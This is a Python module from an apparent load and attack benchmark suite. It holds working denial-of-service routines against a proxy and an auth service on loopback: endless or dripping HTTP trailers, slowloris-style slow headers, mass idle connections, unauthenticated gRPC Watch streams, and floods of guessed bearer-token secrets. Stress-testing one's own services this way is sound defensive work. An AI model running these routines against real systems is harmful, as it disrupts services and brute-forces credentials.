"""Attacks by anybody who can connect, without a token."""

from __future__ import annotations

import asyncio
import socket
from contextlib import suppress
from typing import TYPE_CHECKING, Any, Final
from uuid import uuid4

import grpc
from benchmarks.attacks.attacking import LOOPBACK, OPENS_A_SECOND, REOPENS_A_SECOND, Pace, Target, flood, hold
from benchmarks.attacks.tokens import guess
from benchmarks.attacks.wire import CHAT, bearer, chat_body, head, request
from grpc_health.v1 import health_pb2, health_pb2_grpc

if TYPE_CHECKING:
    from collections.abc import Callable

    from benchmarks.attacks.tally import Tally
    from benchmarks.attacks.wire import Connection

FLAT_OUT: Final = 4
DRIPPING: Final = 2
"""Connections with slow trailers: one for each worker."""
_PIECE: Final = b"a" * 65_536
_LONG_TRAILER: Final = 48 << 20
_DRIPS_A_SECOND: Final = 100
_REOPENED_A_SECOND: Final = 20.0
REFUSED: Final = 2_000
"""Refused connections: 1,000 for each worker."""
IDLE: Final = 2_200
"""More than two workers have descriptors, with a limit of 1,024 for each."""
_HEADER_BYTE_EVERY_S: Final = 4.0
SILENT: Final = 1_100
WATCHES: Final = 1_000
_FOREVER_S: Final = 3_600.0
_BODY: Final = chat_body("gpt-instant")


def _endless_trailer(host: str, path: str) -> bytes:
    return head(host, path, {"transfer-encoding": "chunked", "content-type": "application/json"}) + (
        b"2\r\n{}\r\n0\r\nx-endless: "
    )


async def _trailers(port: int, path: str, tally: Tally, *, drip: bool) -> None:
    begin = _endless_trailer(f"{LOOPBACK}:{port}", path)

    async def script(connection: Connection) -> None:
        await connection.send(begin)
        sent = 0
        while not drip or sent < _LONG_TRAILER:
            await connection.send(_PIECE)
            sent += len(_PIECE)
            tally.sent += 1
            await asyncio.sleep(0)
        while not await connection.closed_within(1 / _DRIPS_A_SECOND):
            await connection.send(b"a")
            tally.sent += 1

    await hold(port, tally, DRIPPING if drip else FLAT_OUT, script, reopens_a_second=_REOPENED_A_SECOND)


async def trailers(target: Target, tally: Tally) -> None:
    """Send trailers to the proxy without an end, on 4 connections, as fast as they are read."""
    await _trailers(target.proxy, CHAT, tally, drip=False)


async def trailers_drip(target: Target, tally: Tally) -> None:
    """Begin a long trailer, then send 100 packets a second of one byte, on 2 connections."""
    await _trailers(target.proxy, CHAT, tally, drip=True)


async def ops_trailers(target: Target, tally: Tally) -> None:
    """Send trailers to auth's HTTP port without an end, on 4 connections, as fast as they are read."""
    await _trailers(target.ops, "/health", tally, drip=False)


async def ops_trailers_drip(target: Target, tally: Tally) -> None:
    """Begin a long trailer on auth's HTTP port, then send 100 packets a second of one byte, on 2 connections."""
    await _trailers(target.ops, "/health", tally, drip=True)


async def _refused(target: Target, tally: Tally, *, rest: bytes) -> None:
    headers = {"content-type": "application/json", "content-length": str(len(_BODY))}
    begin = head(target.host, CHAT, headers)

    async def script(connection: Connection) -> None:
        await connection.ask(begin)
        if not connection.closed.is_set():
            await connection.send(rest)
        await connection.closed_within(_FOREVER_S)

    await hold(target.proxy, tally, REFUSED, script)


async def refused_byte(target: Target, tally: Tally) -> None:
    """Wait for the refusal that comes before the body, then send one byte; hold 2,000 such connections."""
    await _refused(target, tally, rest=_BODY[:1])


async def refused_body(target: Target, tally: Tally) -> None:
    """Wait for the refusal that comes before the body, then send the whole body; hold 2,000 such connections."""
    await _refused(target, tally, rest=_BODY)


async def idle(target: Target, tally: Tally) -> None:
    """Hold 2,200 connections without a byte."""

    async def script(connection: Connection) -> None:
        await connection.closed_within(_FOREVER_S)

    await hold(target.proxy, tally, IDLE, script)


async def slow_heads(target: Target, tally: Tally) -> None:
    """Hold 2,200 connections, each of which sends a byte of a header every 4 s."""

    async def script(connection: Connection) -> None:
        await connection.send(f"POST {CHAT} HTTP/1.1\r\nhost: {target.host}\r\nx-slow: ".encode())
        while not await connection.closed_within(_HEADER_BYTE_EVERY_S):
            await connection.send(b"a")
            tally.sent += 1

    await hold(target.proxy, tally, IDLE, script)


async def grpc_silent(target: Target, tally: Tally) -> None:
    """Hold 1,100 connections to auth's gRPC port and send nothing."""
    opening, reopening = Pace(OPENS_A_SECOND), Pace(REOPENS_A_SECOND)

    async def one() -> None:
        loop, pace = asyncio.get_running_loop(), opening
        while True:
            await pace.turn()
            pace = reopening
            with socket.socket() as silent:
                silent.settimeout(0)
                try:
                    await asyncio.wait_for(loop.sock_connect(silent, (LOOPBACK, target.grpc)), 10)
                except OSError as error:
                    tally.not_opened[type(error).__name__] += 1
                    await asyncio.sleep(0.5)
                    continue
                await _until_closed(silent, tally)

    async with asyncio.TaskGroup() as group:
        for _ in range(SILENT):
            group.create_task(one())


async def _until_closed(silent: socket.socket, tally: Tally) -> None:
    loop = asyncio.get_running_loop()
    tally.open()
    began = loop.time()
    try:
        with suppress(ConnectionError):
            while await loop.sock_recv(silent, 4_096):
                pass
        tally.closed_by_server(0, loop.time() - began)
    finally:
        tally.held -= 1


async def grpc_watch(target: Target, tally: Tally) -> None:
    """Hold 1,000 streams of ``Health/Watch`` on one connection, without a credential."""
    pace = Pace(500)
    async with grpc.aio.insecure_channel(
        f"{LOOPBACK}:{target.grpc}", options=(("grpc.use_local_subchannel_pool", 1), ("grpc.enable_http_proxy", 0))
    ) as channel:
        stub: Any = health_pb2_grpc.HealthStub(channel)
        async with asyncio.TaskGroup() as group:
            for _ in range(WATCHES):
                group.create_task(_watch(stub, pace, tally))


async def _watch(stub: Any, pace: Pace, tally: Tally) -> None:
    loop = asyncio.get_running_loop()
    while True:
        await pace.turn()
        began = loop.time()
        tally.open()
        try:
            async for _ in stub.Watch(health_pb2.HealthCheckRequest(service="")):
                tally.answers["message"] += 1
            status = "OK"
        except grpc.aio.AioRpcError as error:
            status = error.code().name
        finally:
            tally.held -= 1
        tally.answers[status] += 1
        tally.closed_by_server(status, loop.time() - began)
        await asyncio.sleep(0.5)


async def _guesses(target: Target, tally: Tally, token_id: Callable[[], str]) -> None:
    def make() -> bytes:
        return request(target.host, CHAT, bearer(guess(token_id())), _BODY)

    await flood(target.proxy, tally, make)


async def guessed_secrets(target: Target, tally: Tally) -> None:
    """Send 1,000 requests a second with the id of a live token of the victim, and random secrets."""
    await _guesses(target, tally, lambda: target.known_token_id)


async def unknown_tokens(target: Target, tally: Tally) -> None:
    """Send 1,000 requests a second with well-formed tokens that nobody has."""
    await _guesses(target, tally, lambda: str(uuid4()))
